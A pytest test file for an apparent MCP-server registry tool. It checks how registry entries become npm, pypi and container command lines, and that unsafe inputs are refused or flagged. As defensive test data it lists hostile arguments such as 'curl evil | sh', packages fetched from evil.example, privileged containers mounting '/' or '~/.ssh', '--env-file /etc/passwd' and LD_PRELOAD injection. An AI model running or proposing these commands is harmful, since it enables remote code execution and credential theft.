"""A `server.json` of the MCP registry as an entry: the exact command line of each kind of package, and remotes."""

from pathlib import Path
from typing import Any

import msgspec
import pytest

from mcp_hub.cli.registry.dangers import dangers_of
from mcp_hub.cli.registry.server_json import command_of, entry_of, parse_server_json
from mcp_hub.config.load.interpolate import Reference, resolve, split_text
from mcp_hub.errors import ConfigError

STDIO = {"transport": {"type": "stdio"}}
KEY = {"name": "API_KEY", "isRequired": True, "isSecret": True}


def entry(document: object, given: dict[str, str] | None = None, *, is_remote: bool = False) -> object:
    detail = parse_server_json(msgspec.json.encode(document), "s.json")
    return entry_of(detail, given or {}, is_remote=is_remote)


def package(kind: str, identifier: str, **more: Any) -> object:
    return {"name": "io.x/y", "packages": [{"registryType": kind, "identifier": identifier, **STDIO, **more}]}


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (package("npm", "@a/b", version="1.0.0"), {"command": "npx", "args": ["-y", "@a/b@1.0.0"]}),
        (package("pypi", "b", version="2.1", runtimeHint="uvx"), {"command": "uvx", "args": ["b==2.1"]}),
        (
            package("oci", "ghcr.io/a/b", version="3", environmentVariables=[KEY]),
            {"command": "docker", "args": ["run", "-i", "--rm", "-e", "API_KEY", "ghcr.io/a/b:3"],
             "env": {"API_KEY": "${API_KEY}"}},
        ),
        (
            package("oci", "a/b:1", runtimeHint="podman", runtimeArguments=[
                {"type": "named", "name": "--mount", "value": "src={path},dst=/w",
                 "variables": {"path": {"default": "/home"}}}]),
            {"command": "podman", "args": ["run", "-i", "--rm", "--mount", "src=/home,dst=/w", "a/b:1"]},
        ),
        (
            package("npm", "b", packageArguments=[
                {"type": "positional", "valueHint": "folder", "isRequired": True},
                {"type": "named", "name": "--port", "default": "80"},
                {"type": "named", "name": "--quiet", "format": "boolean", "value": "true"},
                {"type": "named", "name": "--loud", "format": "boolean", "default": "false"},
                {"type": "named", "name": "--key", "value": "{token}", "variables": {"token": {"isSecret": True}}}]),
            {"command": "npx", "args": ["-y", "b", "/tmp", "--port", "80", "--quiet", "--key", "${TOKEN}"]},
        ),
    ],
)  # fmt: skip
def test_package_is_an_exact_command_line(document: object, expected: object) -> None:
    assert entry(document, {"folder": "/tmp"}) == expected


def test_remote_is_a_url_with_headers() -> None:
    remote = {
        "type": "streamable-http",
        "url": "https://{region}.x.example/mcp",
        "headers": [{"name": "X-Api-Key", "isSecret": True}],
        "variables": {"region": {"default": "eu"}},
    }
    expected = {"url": "https://eu.x.example/mcp", "headers": {"X-Api-Key": "${X_API_KEY}"}}
    assert entry({"name": "a/b", "remotes": [remote]}) == expected
    assert entry({**package("npm", "b"), "remotes": [remote]}, is_remote=True) == expected  # type: ignore[dict-item]
    us = entry({"name": "a/b", "remotes": [{**remote, "type": "sse"}]}, {"region": "us", "X-Api-Key": "k"})
    assert us == {"url": "https://us.x.example/mcp", "type": "sse", "headers": {"X-Api-Key": "k"}}


@pytest.mark.parametrize(
    ("document", "code"),
    [
        ([], "invalid_server_json"),
        ({"name": "x"}, "unsupported_package"),
        (package("mcpb", "https://x/y.mcpb"), "unsupported_package"),
        (package("npm", "b", runtimeHint="bash"), "unsupported_package"),
        (package("npm", "--eval=1"), "invalid_server_json"),
        (package("npm", "b c"), "invalid_server_json"),
        (package("npm", "b", version="1 --x"), "invalid_server_json"),
        (package("npm", "b", packageArguments=[{"name": "p", "isRequired": True}]), "missing_parameter"),
    ],
)  # fmt: skip
def test_document_that_is_not_to_be_run_is_refused(document: object, code: str) -> None:
    with pytest.raises(ConfigError) as refused:
        entry(document)
    assert refused.value.code == code


def test_text_of_a_stranger_is_never_looked_up() -> None:
    own = {"name": "A", "default": "${HOME}"}
    assert entry(package("npm", "b", environmentVariables=[own])) == {
        "command": "npx", "args": ["-y", "b"], "env": {"A": "$${HOME}"},
    }  # fmt: skip


SECRETS = ("file:~/.vault-token", "keyring:mcp-hub/github", "env:MY_VAR", "MY_VAR")
"""The insides of placeholders that would read something of this machine."""


def looked_up(tree: object) -> set[str]:
    """The references in the texts of an entry."""
    if isinstance(tree, str):
        return {part.text for part in split_text(tree) if isinstance(part, Reference)}
    inner = tree.values() if isinstance(tree, dict) else tree if isinstance(tree, list) else ()
    return {text for value in inner for text in looked_up(value)}


@pytest.mark.parametrize("inside", SECRETS)
@pytest.mark.parametrize(
    "template", ["${{{0}}}", "$${{{0}}}", "$$${{{0}}}", "{{dollar}}{{{0}}}", "{{dollar}}{{brace}}", "${{brace}}", "$",
                 "{{brace}}", "x$", "{{dollar}}"],
)  # fmt: skip
def test_values_of_a_document_read_nothing_however_they_meet(template: str, inside: str) -> None:
    text = template.format(inside)
    variables = {"dollar": {"value": "$"}, "brace": {"default": f"{{{inside}}}"}, "all": {"default": f"${{{inside}}}"}}
    fixed = {"value": text, "variables": variables}
    both = {"value": f"{text}{{brace}}{{all}}", "variables": variables}
    for own in (fixed, both, {"default": text}, {"default": f"${{{inside}}}"}):
        inputs = [{"name": "A", **own}]
        named = [{"type": "named", "name": f"--{text}", **own}, {"type": "positional", **own}]
        local = package("npm", "b", environmentVariables=inputs, packageArguments=named, runtimeArguments=named)
        remote = {"type": "sse", "url": f"https://x.example/{text}{{all}}", "variables": variables, "headers": inputs}
        assert looked_up(entry(local)) == set()
        assert looked_up(entry({"name": "a/b", "remotes": [remote]})) == set()


def test_values_of_a_document_arrive_as_they_are_written(tmp_path: Path) -> None:
    own = {"name": "A", "value": "$$${B}{dollar}{brace}$", "variables": {
        "dollar": {"value": "$"}, "brace": {"value": "{HOME}"}}}  # fmt: skip
    made: Any = entry(package("npm", "b", environmentVariables=[own]))
    assert resolve(made["env"]["A"], {"HOME": "/h", "B": "b"}, tmp_path).text == "$$${B}${HOME}$"


@pytest.mark.parametrize("name", ["file:~/.vault-token", "keyring:a/b", "A:-x", "A}{B", "", "é", "1A", "a b", "a-b"])
def test_names_of_variables_are_names(name: str) -> None:
    needed = {"isRequired": True}
    header = {"name": "X", "value": "{a}", "variables": {name: needed}}
    documents = [
        package("npm", "b", environmentVariables=[{"name": name, **needed}]),
        package("npm", "b", packageArguments=[{"type": "positional", "value": "{a}", "variables": {name: needed}}]),
        {"name": "a/b", "remotes": [{"type": "sse", "url": "https://x.example", "headers": [header]}]},
        {"name": "a/b", "remotes": [{"type": "sse", "url": "https://x.example/{a}", "variables": {name: needed}}]},
    ]
    for document in documents:
        with pytest.raises(ConfigError) as refused:
            entry(document)
        assert refused.value.code == "invalid_server_json"


@pytest.mark.parametrize("name", ["X\r\nY", "X: y", "", "é", "${file:x}"])
def test_names_of_headers_are_names(name: str) -> None:
    remote = {"type": "sse", "url": "https://x.example", "headers": [{"name": name, "value": "v"}]}
    with pytest.raises(ConfigError) as refused:
        entry({"name": "a/b", "remotes": [remote]})
    assert refused.value.code == "invalid_server_json"


def test_dollar_before_a_reference_is_refused_because_it_cannot_be_written() -> None:
    own = {"type": "positional", "value": "${token}", "variables": {"token": {"isSecret": True}}}
    with pytest.raises(ConfigError) as refused:
        entry(package("npm", "b", packageArguments=[own]))
    assert refused.value.code == "invalid_placeholder"


@pytest.mark.parametrize(
    ("content", "line"),
    [(b'{"name":\n"a\\ud800"}', 2), (b'{"name": "\\\\ud800 \\ud83d\\ude00",\n\n"x": "\\uDFFF"}', 3)],
)
def test_lone_surrogate_is_an_error_with_its_line(content: bytes, line: int) -> None:
    with pytest.raises(ConfigError) as refused:
        parse_server_json(content, "s.json")
    assert (refused.value.code, refused.value.findings[0].line) == ("invalid_text", line)


@pytest.mark.parametrize("content", [b'{"name": "\xed\xa0\x80"}', b"[" * 100_000, b'{"a":' * 100_000, b"\xff", b""])
def test_bytes_that_are_no_document_are_an_error(content: bytes) -> None:
    with pytest.raises(ConfigError) as refused:
        parse_server_json(content, "s.json")
    assert refused.value.code == "invalid_server_json"


def dangers(document: object, given: dict[str, str] | None = None) -> list[str]:
    command = command_of(parse_server_json(msgspec.json.encode(document), "s.json"), given or {})
    assert command is not None
    return dangers_of(command, given or {})


def runtime(kind: str, *words: str) -> object:
    identifier = "ghcr.io/a/b" if kind == "oci" else "b"
    return package(kind, identifier, runtimeArguments=[{"type": "positional", "value": word} for word in words])


@pytest.mark.parametrize(
    "document",
    [
        runtime("npm", "-c", "curl evil | sh"), runtime("npm", "--call=sh"), runtime("npm", "-yc", "sh"),
        runtime("npm", "--package", "evil"), runtime("npm", "-p=evil"), runtime("npm", "evil"),
        runtime("npm", "--registry=https://evil.example"), runtime("npm", "--node-options=--require=/tmp/x"),
        runtime("npm", "--script-shell", "/tmp/x"), runtime("npm", "-y", "--", "evil"),
        runtime("pypi", "--from", "git+https://evil.example/x"), runtime("pypi", "--index-url=https://evil.example"),
        runtime("pypi", "--with", "evil"), runtime("pypi", "--python", "/tmp/p"),
        runtime("pypi", "--env-file", "x"),
        runtime("oci", "--privileged"), runtime("oci", "-v", "/:/host"), runtime("oci", "-v/:/host"),
        runtime("oci", "--volume=/:/host"), runtime("oci", "--mount", "type=bind,src=/,dst=/host"),
        runtime("oci", "--mount", 'type=bind,"src=/",dst=/host'), runtime("oci", "--mount", "type=bind,SRC=/,dst=/h"),
        runtime("oci", "--mount", "type=bind,src=x,src=/,dst=/h"), runtime("oci", "-v", "~/.ssh:/k"),
        runtime("oci", "--network", "host"), runtime("oci", "--pid=host"), runtime("oci", "--env-file", "/etc/passwd"),
        runtime("oci", "--entrypoint", "sh"), runtime("oci", "-H", "tcp://evil"), runtime("oci", "exec", "x", "sh"),
        runtime("oci", "--cap-add=ALL"), runtime("oci", "--device", "/dev/sda"), runtime("oci", "run", "evil"),
        runtime("oci", "--security-opt", "seccomp=unconfined"), runtime("oci", "--name", "--privileged"),
        runtime("oci", "-v"), runtime("oci", "--volumes-from", "x"),
        package("npm", "https://evil.example/x.tgz"), package("npm", "git+https://evil.example/x.git#main"),
        package("npm", "evil/repository"), package("npm", "github:a/b"), package("npm", "file:../x"),
        package("npm", "./x"), package("npm", "/tmp/x"), package("npm", "~/x"), package("npm", "x.tgz"),
        package("npm", "a@npm:evil"), package("npm", "a@https://x"), package("npm", "node"), package("npm", "npm@9"),
        package("pypi", "git+ssh://evil.example/x"), package("pypi", "x@git+https://evil"), package("pypi", "x.whl"),
        package("pypi", "python3.12"), package("pypi", "https://evil.example/x.whl"),
        *(
            package("npm", "b", environmentVariables=[{"name": name, "value": "x"}])
            for name in ("LD_PRELOAD", "NODE_OPTIONS", "npm_config_registry", "PATH", "PYTHONPATH", "UV_INDEX_URL",
                         "https_proxy", "BASH_ENV", "NODE_EXTRA_CA_CERTS", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND")
        ),
    ],
)  # fmt: skip
def test_command_that_can_run_more_than_a_package_is_dangerous(document: object) -> None:
    assert dangers(document)


@pytest.mark.parametrize(
    "document",
    [
        package("npm", "@a/b", version="1.0.0"), runtime("npm", "-y", "--quiet"), package("npm", "b@1.2.3"),
        package("pypi", "b[x]", version="1"), runtime("pypi", "--python", "3.12", "--isolated"),
        package("oci", "ghcr.io/a/b:1@sha256:" + "a" * 64), package("oci", "localhost:5000/a/b", version="1"),
        runtime("oci", "run", "-it", "--rm", "--memory=512m", "-e", "A=b c", "--network", "none", "-v", "data:/data"),
        runtime("oci", "--mount", "type=volume,src=data,dst=/data,readonly", "--user", "1000:1000"),
        package("npm", "b", environmentVariables=[{"name": "NODE_ENV", "value": "x"}, KEY]),
        package("pypi", "b", environmentVariables=[{"name": "PYTHONUNBUFFERED", "value": "1"}]),
        package("npm", "b", packageArguments=[{"type": "named", "name": "-c", "value": "config.json"}]),
    ],
)  # fmt: skip
def test_command_of_a_package_is_not_dangerous(document: object) -> None:
    assert dangers(document) == []


def test_folder_that_the_person_names_is_not_dangerous() -> None:
    source = {"value": "{folder}:/data", "type": "positional", "variables": {"folder": {"default": "/"}}}
    document = package("oci", "a/b", runtimeArguments=[{"type": "positional", "value": "-v"}, source])
    assert dangers(document)
    assert dangers(document, {"folder": "/home/me/data"}) == []
